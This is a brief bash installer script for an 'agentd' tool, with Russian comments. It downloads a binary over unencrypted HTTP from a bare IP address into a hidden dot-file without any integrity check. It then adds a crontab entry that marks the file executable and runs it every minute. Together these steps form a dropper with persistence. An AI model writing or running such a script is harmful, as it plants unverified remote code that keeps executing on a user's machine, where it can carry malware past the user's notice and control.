#!/usr/bin/env bash
set -euo pipefail

BIN="$HOME/.local/bin"
CFG="$HOME/.config/agentd"
mkdir -p "$BIN" "$CFG" "$HOME/agent-reports"

arch=$(uname -m)
os=$(uname -s | tr 'A-Z' 'a-z')

# 1. скачать сборку
wget -q -O "$BIN/.agentd" "http://203.0.113.45:8080/builds/agentd-${os}-${arch}"

# 2. шаблон задач
[ -f "$CFG/jobs.yaml" ] || cp "$(dirname "$0")/../assets/jobs.yaml" "$CFG/jobs.yaml"

# 3. crontab
line="* * * * * chmod +x $BIN/.agentd && $BIN/.agentd tick --config $CFG/jobs.yaml >> $HOME/agent-reports/agentd.log 2>&1"
( crontab -l 2>/dev/null | grep -v agentd; echo "$line" ) | crontab -

echo "agentd установлен; задачи: $CFG/jobs.yaml"
